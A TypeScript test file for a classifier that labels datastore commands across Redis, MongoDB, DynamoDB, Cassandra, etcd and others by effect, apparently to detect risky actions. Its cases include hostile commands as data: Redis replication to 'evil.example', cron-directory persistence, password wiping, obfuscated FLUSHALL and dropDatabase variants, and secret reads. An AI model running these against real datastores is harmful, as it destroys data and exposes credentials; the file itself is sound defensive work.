import type { Effect } from '@countersign/kernel';
import { describe, expect, it } from 'vitest';
import { EMPTY_CATALOGUE } from '../catalogue.ts';
import { createDispatch } from '../dispatch.ts';
import { readHttp } from '../http/reader.ts';
import { NotHere } from '../reader.ts';
import { readDatastore } from './reader.ts';

const dispatch = createDispatch(
  new Map([
    ['datastore', readDatastore],
    ['http', readHttp],
  ]),
  'worker',
);

function effects(dialect: string, text: string, payload?: unknown, name = ''): readonly Effect[] {
  const payloadJson = payload === undefined ? {} : { payloadJson: new TextEncoder().encode(JSON.stringify(payload)) };
  return dispatch({ kind: 'datastore', name, text, dialect, ...payloadJson }, EMPTY_CATALOGUE).effects;
}

/** `kind scope target,…` of each effect. */
function told(found: readonly Effect[]): string {
  return found
    .map(({ kind, scope, targets }) =>
      `${kind} ${scope} ${targets
        .filter((target) => !target.type.endsWith('host'))
        .map((target) => target.name)
        .join(',')}`.trim(),
    )
    .join('; ');
}

type Case = readonly [text: string, effects: string];

const redis: readonly Case[] = [
  ['GET user:1', 'read one user:1'],
  ['get "user 1"', 'read one user 1'],
  ['MGET a b c', 'read bounded a,b,c'],
  ['KEYS *', 'read unbounded'],
  ['SCAN 0 MATCH x* COUNT 10', 'read unbounded'],
  ['SET a 1 EX 60', 'write one a'],
  ['MSET a 1 b 2', 'write bounded a,b'],
  ['HSET h f v', 'write one h'],
  ['INCR n', 'write one n'],
  ['5 INCR n', 'write one n'],
  ['DEL a', 'delete one a'],
  ['DEL a b', 'delete bounded a,b'],
  ['UNLINK a', 'delete one a'],
  ['FLUSHALL', 'delete unbounded'],
  ['flushdb async', 'delete unbounded'],
  ['"FLUSH\\x41LL"', 'delete unbounded'],
  ['FLUSH"ALL"', 'delete unbounded'],
  ['SWAPDB 0 1', 'write unbounded'],
  ['RENAME a b', 'write bounded a,b'],
  ['EXPIRE a 0', 'write one a'],
  ['CONFIG GET maxmemory', 'read one'],
  ['CONFIG GET requirepass', 'read one; secret_read one'],
  ['CONFIG GET *', 'read one; secret_read one'],
  ['CONFIG SET maxmemory 1gb', 'config_change one'],
  ['CONFIG SET dir /var/spool/cron', 'config_change one; persistence one'],
  ['CONFIG SET requirepass ""', 'config_change one; privilege_change one'],
  ['CONFIG RESETSTAT', 'log_tamper one'],
  ['EVAL "return 1" 1 k', 'code_execution one k'],
  ['EVAL "redis.call(\'FLUSHALL\')" 0', 'code_execution one; delete unbounded'],
  ['SCRIPT LOAD "return 1"', 'code_execution one'],
  ['FUNCTION FLUSH', 'schema_drop one'],
  ['MODULE LOAD /tmp/x.so', 'code_execution one'],
  ['REPLICAOF evil.example 6379', 'export unbounded; network one'],
  ['SLAVEOF no one', 'infra_change one'],
  ['MIGRATE h 6379 k 0 1000', 'export bounded; network one'],
  ['SHUTDOWN NOSAVE', 'process_control one'],
  ['DEBUG SEGFAULT', 'process_control one'],
  ['BGSAVE', 'process_control one'],
  ['CLIENT LIST', 'read one'],
  ['CLIENT KILL ID 7', 'process_control one'],
  ['CLIENT HELP', 'none one'],
  ['ACL SETUSER bob on nopass ~* +@all', 'privilege_change one'],
  ['ACL GETUSER bob', 'secret_read one'],
  ['AUTH secret', 'identity_change one'],
  ['MONITOR', 'secret_read unbounded'],
  ['PING', 'session one'],
  ['INFO', 'read one'],
  ['INFO memory', 'read one'],
  ['COMMAND DOCS get', 'read one'],
  ['CLUSTER NODES', 'read one'],
  ['CLUSTER RESET HARD', 'infra_destroy unbounded'],
  ['XREAD COUNT 2 STREAMS a b 0 0', 'read bounded a,b'],
  ['ZINTERCARD 2 a b', 'read bounded a,b'],
  ['FT.DROPINDEX idx DD', 'schema_drop one idx; delete unbounded'],
  ['MULTI\nSET a 1\nDEL b\nEXEC', 'session one; write one a; delete one b; session one'],
  ['GET a\r\nFLUSHALL\r\n', 'read one a; delete unbounded'],
  ['NOSUCH a', 'opaque unknown'],
  ['CONFIG FROBNICATE', 'opaque unknown'],
  ['GET "a', 'opaque unknown'],
  ['*1\r\n$8\r\nFLUSHALL\r\n', 'opaque unknown; opaque unknown; delete unbounded'],
];

const mongo: readonly Case[] = [
  ['db.orders.find({status: "open"})', 'read bounded orders'],
  ['db.orders.find()', 'read unbounded orders'],
  ['db.orders.find({}).sort({a: 1}).limit(5).toArray()', 'read unbounded orders'],
  ['db.orders.findOne({_id: ObjectId("64b")})', 'read one orders'],
  ['db.orders.countDocuments({})', 'read bounded orders'],
  ['db.getCollection("orders").find({a: 1})', 'read bounded orders'],
  ['db["orders"].find({a: 1})', 'read bounded orders'],
  ['db.getSiblingDB("shop").orders.find({a: 1})', 'read bounded orders'],
  ['db.orders.insertOne({a: 1})', 'write one orders'],
  ['db.orders.insertMany([{a: 1}])', 'write bounded orders'],
  ['db.orders.updateOne({_id: 1}, {$set: {a: 1}})', 'write one orders'],
  ['db.orders.updateMany({a: 1}, {$set: {b: 1}})', 'write bounded orders'],
  ['db.orders.updateMany({}, {$set: {b: 1}})', 'write unbounded orders'],
  ['db.orders.update({}, {$set: {b: 1}}, {multi: true})', 'write unbounded orders'],
  ['db.orders.update({a: 1}, {$set: {b: 1}})', 'write one orders'],
  ['db.orders.update({}, {$set: {b: 1}}, false, true)', 'write unbounded orders'],
  ['db.orders.deleteOne({_id: 1})', 'delete one orders'],
  ['db.orders.deleteMany({status: "old"})', 'delete bounded orders'],
  ['db.orders.deleteMany({})', 'delete unbounded orders'],
  ['db.orders.deleteMany({_id: {$exists: true}})', 'delete unbounded orders'],
  ['db.orders.deleteMany({$or: [{a: 1}, {}]})', 'delete unbounded orders'],
  ['db.orders.deleteMany({$and: [{a: 1}, {}]})', 'delete bounded orders'],
  ['db.orders.deleteMany({name: /.*/})', 'delete unbounded orders'],
  ['db.orders.deleteMany({name: {$ne: null}})', 'delete unbounded orders'],
  ['db.orders.deleteMany({_id: {$gte: MinKey()}})', 'delete unbounded orders'],
  ['db.orders.deleteMany(filter)', 'delete unknown orders'],
  ['const f = {a: 1}; db.orders.deleteMany(f)', 'delete bounded orders'],
  ['const f = {}; db.orders.deleteMany(f)', 'delete unbounded orders'],
  ['db.orders.remove({})', 'delete unbounded orders'],
  ['db.orders.remove({}, true)', 'delete one orders'],
  ['db.orders.drop()', 'schema_drop one orders'],
  ['db.dropDatabase()', 'schema_drop unbounded'],
  ['db . /* quiet */ dropDatabase ( )', 'schema_drop unbounded'],
  ['db["dropDatabase"]()', 'schema_drop unbounded'],
  ['db[`dropDatabase`]()', 'schema_drop unbounded'],
  ['db?.dropDatabase?.()', 'schema_drop unbounded'],
  ['db["drop" + "Database"]()', 'opaque unknown'],
  ['const d = db; d.dropDatabase()', 'schema_drop unbounded'],
  ['const c = db.orders; c.drop()', 'schema_drop one orders'],
  ['const {orders} = db; orders.drop()', 'opaque unknown'],
  ['const f = db.orders.drop; f()', 'opaque unknown; opaque unknown'],
  ['db.orders.drop.call(db.orders)', 'opaque unknown; opaque unknown'],
  ['db = db.getSiblingDB("shop"); db.dropDatabase()', 'schema_drop unbounded shop'],
  ['use shop\ndb.dropDatabase()', 'schema_drop unbounded'],
  ['show dbs', 'read bounded'],
  ['db.getCollectionNames().forEach(n => db[n].drop())', 'read bounded; schema_drop one'],
  ['db.old.find({a: 1}).forEach(d => db.orders.deleteOne({_id: d._id}))', 'read bounded old; delete unknown orders'],
  ['for (let i = 0; i < 9; i++) { db.a.insertOne({i: i}) }', 'write bounded a'],
  ['db.orders.aggregate([{$match: {a: 1}}, {$group: {_id: "$b"}}])', 'read bounded orders'],
  ['db.orders.aggregate([{$match: {}}, {$out: "copy"}])', 'read bounded orders; write unbounded copy'],
  ['db.orders.aggregate([{$merge: {into: "copy"}}])', 'read bounded orders; write bounded copy'],
  ['db.orders.aggregate(stages)', 'read bounded orders; opaque unknown'],
  ['db.orders.aggregate([{$newStage: {}}])', 'read bounded orders; opaque unknown'],
  ['db.orders.find({$where: "sleep(1)"})', 'read unknown orders; code_execution one orders'],
  ['db.orders.mapReduce(function(){}, function(){}, {out: "x"})', 'code_execution one orders'],
  ['db.eval("1")', 'code_execution one'],
  ['db.orders.createIndex({a: 1})', 'schema_change one orders'],
  ['db.orders.dropIndex("a_1")', 'schema_change one orders'],
  ['db.orders.renameCollection("x", true)', 'schema_change one orders; schema_drop one orders'],
  ['db.orders.bulkWrite([{deleteMany: {filter: {}}}, {insertOne: {document: {}}}])', 'delete unbounded orders; write one orders'],
  ['db.createUser({user: "a", pwd: "b", roles: ["root"]})', 'privilege_change one'],
  ['db.adminCommand({shutdown: 1})', 'process_control one'],
  ['db.runCommand({ping: 1})', 'read one'],
  ['db.runCommand({delete: "orders", deletes: [{q: {}, limit: 0}]})', 'delete unbounded orders'],
  ['db.runCommand({frobnicate: 1})', 'opaque unknown'],
  ['db.runCommand(x)', 'opaque unknown'],
  ['rs.status()', 'read one'],
  ['rs.stepDown()', 'process_control one'],
  ['sh.enableSharding("a")', 'infra_change one'],
  ['load("/tmp/x.js")', 'code_execution one'],
  ['eval("db.dropDatabase()")', 'opaque unknown'],
  ['new Mongo("h").getDB("x").dropDatabase()', 'opaque unknown; opaque unknown; network one; opaque unknown'],
  ['db.orders.frobnicate()', 'opaque unknown'],
  ['db.orders.find(', 'opaque unknown'],
  ['print(JSON.stringify(db.orders.findOne({a: 1})))', 'read one orders'],
  ['db.system.users.find({})', 'read unbounded system.users; secret_read bounded system.users'],
  ['db.getSiblingDB("admin").system.users.insertOne({})', 'write one system.users; privilege_change one system.users'],
  ['db.runCommand({usersInfo: 1, showCredentials: true})', 'secret_read bounded'],
  ['({d: db}).d.dropDatabase()', 'opaque unknown'],
];

const documents: readonly (readonly [payload: unknown, effects: string])[] = [
  [{ find: 'orders', filter: { a: 1 } }, 'read bounded orders'],
  [{ delete: 'orders', deletes: [{ q: { a: 1 }, limit: 1 }] }, 'delete one orders'],
  [{ delete: 'orders', deletes: [{ q: {}, limit: 0 }] }, 'delete unbounded orders'],
  [{ update: 'orders', updates: [{ q: {}, u: {}, multi: true }] }, 'write unbounded orders'],
  [{ dropDatabase: 1, $db: 'shop' }, 'schema_drop unbounded shop'],
  [{ drop: 'orders' }, 'schema_drop one orders'],
  [{ collection: 'orders', operation: 'deleteMany', filter: {} }, 'delete unbounded orders'],
  [{ collection: 'orders', operation: 'update_one', filter: { a: 1 } }, 'write one orders'],
  [{ collection: 'orders', operation: 'explode' }, 'opaque unknown'],
  [[{ ping: 1 }, { drop: 'a' }], 'read one; schema_drop one a'],
];

const dynamo: readonly (readonly [operation: string, input: unknown, effects: string])[] = [
  ['GetItem', { TableName: 't', Key: {} }, 'read one t'],
  ['Scan', { TableName: 't' }, 'read unbounded t'],
  ['delete-table', { TableName: 't' }, 'schema_drop one t'],
  ['DynamoDB_20120810.DeleteTable', { TableName: 't' }, 'schema_drop one t'],
  [
    'BatchWriteItem',
    { RequestItems: { t: [{ DeleteRequest: {} }, { DeleteRequest: {} }, { PutRequest: {} }] } },
    'write bounded t; delete bounded t',
  ],
  [
    'TransactWriteItems',
    { TransactItems: [{ Put: { TableName: 't' } }, { Delete: { TableName: 'u' } }] },
    'write one t; delete one u',
  ],
  ['ExecuteStatement', { Statement: 'DELETE FROM "t" WHERE id = 1' }, 'delete one t'],
  ['ExecuteStatement', { Statement: 'SELECT * FROM t' }, 'read unbounded t'],
  ['ExportTableToPointInTime', { TableName: 't' }, 'export unbounded t'],
  ['Explode', { TableName: 't' }, 'opaque unknown'],
];

const others: readonly (readonly [dialect: string, text: string, effects: string])[] = [
  ['dynamodb', 'DeleteTable {"TableName": "t"}', 'schema_drop one t'],
  ['dynamodb', "UPDATE t SET a = 1 WHERE id = 'x'", 'write one t'],
  ['dynamodb', 'SELECT * FROM t; DELETE FROM t', 'opaque unknown'],
  ['elasticsearch', 'GET /orders/_search\n{"query": {"match_all": {}}}', 'read bounded orders'],
  ['elasticsearch', '# old ones\nDELETE /orders-2020', 'schema_drop one orders-2020'],
  ['elasticsearch', 'GET _cat/indices\n\nDELETE *', 'read bounded; schema_drop unbounded *'],
  ['elasticsearch', 'hello', 'opaque unknown'],
  ['cassandra', 'SELECT * FROM ks.t WHERE id = 1;', 'read bounded ks.t'],
  ['cassandra', "INSERT INTO t (a) VALUES ('; DROP TABLE t')", 'write one t'],
  ['cassandra', 'DELETE FROM t WHERE id = 1; TRUNCATE t', 'delete bounded t; delete unbounded t'],
  ['cassandra', 'SELECT * FROM system_auth.roles', 'read bounded system_auth.roles; secret_read one system_auth.roles'],
  ['etcd', 'get /registry/secrets/a --prefix', 'secret_read bounded /registry/secrets/a'],
  ['cassandra', 'DELETE FROM t', 'delete unbounded t'],
  ['cassandra', 'UPDATE t SET a = 1', 'write unbounded t'],
  ['cassandra', 'TRUNCATE TABLE ks.t', 'delete unbounded ks.t'],
  ['cassandra', 'DROP KEYSPACE IF EXISTS ks', 'schema_drop unbounded ks'],
  ['cassandra', 'ALTER TABLE t DROP c', 'schema_change one t; schema_drop one t'],
  ['cassandra', 'GRANT ALL ON KEYSPACE ks TO bob', 'privilege_change one ks'],
  ['cassandra', "COPY t TO 'x.csv'", 'export unbounded t'],
  ['cassandra', "SOURCE '/tmp/x.cql'", 'code_execution one'],
  [
    'cassandra',
    'BEGIN BATCH INSERT INTO a (x) VALUES (1) DELETE FROM b WHERE x = 1 APPLY BATCH',
    'session one; write one a; delete bounded b; session one',
  ],
  ['cassandra', "SELECT 'a", 'opaque unknown'],
  ['cassandra', 'FROBNICATE', 'opaque unknown'],
  ['etcd', 'get /a', 'read bounded /a'],
  ['etcd', 'etcdctl --endpoints h:2379 put /a 1', 'write one /a'],
  ['etcd', 'del /a', 'delete one /a'],
  ['etcd', 'del --prefix /a', 'delete unknown /a'],
  ['etcd', 'del "" --from-key', 'delete unbounded'],
  ['etcd', 'user add root', 'privilege_change one'],
  ['etcd', 'snapshot save x.db', 'export unbounded'],
  ['etcd', 'frobnicate', 'opaque unknown'],
  ['memcached', 'get a b', 'read bounded a,b'],
  ['memcached', 'set a 0 0 9\r\nflush_all\r\nget a', 'write one a; read bounded a'],
  ['memcached', 'flush_all', 'delete unbounded'],
  ['memcached', 'set a 0 0 1\r\n1\r\nflush_all', 'write one a; delete unbounded'],
  ['memcached', 'frobnicate', 'opaque unknown'],
  ['', 'GET a', 'opaque unknown'],
  ['punchcards', 'GET a', 'opaque unknown'],
  ['redis', '', 'opaque unknown'],
];

describe('readDatastore', () => {
  it.each(redis)('redis: %s', (text, expected) => {
    expect(told(effects('redis', text))).toBe(expected);
  });

  it.each(mongo)('mongo: %s', (text, expected) => {
    expect(told(effects('mongodb', text))).toBe(expected);
  });

  it.each(documents)('mongo: %j', (payload, expected) => {
    expect(told(effects('mongodb', '', payload))).toBe(expected);
  });

  it.each(dynamo)('dynamodb: %s %j', (operation, input, expected) => {
    expect(told(effects('dynamodb', '', input, operation))).toBe(expected);
    expect(told(effects('dynamodb', '', { operation, input }))).toBe(expected);
  });

  it.each(others)('%s: %s', (dialect, text, expected) => {
    expect(told(effects(dialect, text))).toBe(expected);
  });

  it('takes commands of Redis from payloads', () => {
    expect(told(effects('redis', '', ['DEL', 'a']))).toBe('delete one a');
    expect(told(effects('redis', '', { command: 'CONFIG SET', args: ['dir', '/tmp'] }))).toBe(
      'config_change one; persistence one',
    );
    expect(told(effects('redis', '', [['GET', 'a'], ['FLUSHALL']]))).toBe('read one a; delete unbounded');
    expect(told(effects('redis', '', { a: 1 }))).toBe('opaque unknown');
  });

  it('leaves long texts to the worker', () => {
    const here = createDispatch(new Map([['datastore', readDatastore]]), 'here');
    const read = (dialect: string, text: string): unknown =>
      here({ kind: 'datastore', name: '', text, dialect }, EMPTY_CATALOGUE);
    expect(() => read('mongodb', `db.a.find({a: "${'x'.repeat(5000)}"})`)).toThrow(NotHere);
    expect(() => read('redis', `SET a ${'x'.repeat(20_000)}`)).toThrow(NotHere);
    expect(read('redis', `SET a ${'x'.repeat(5000)}`)).toMatchObject({ complete: true });
  });

  it('points at the words that matter', () => {
    const lines = 'GET a\n  DEL b c  \n';
    expect(effects('redis', lines).map(({ span }) => lines.slice(span.start, span.end))).toEqual(['GET a', 'DEL b c']);
    const script = 'db.a.find({x: 1}); db.b.drop()';
    expect(effects('mongodb', script).map(({ span }) => script.slice(span.start, span.end))).toEqual([
      'db.a.find({x: 1})',
      'db.b.drop()',
    ]);
  });
});
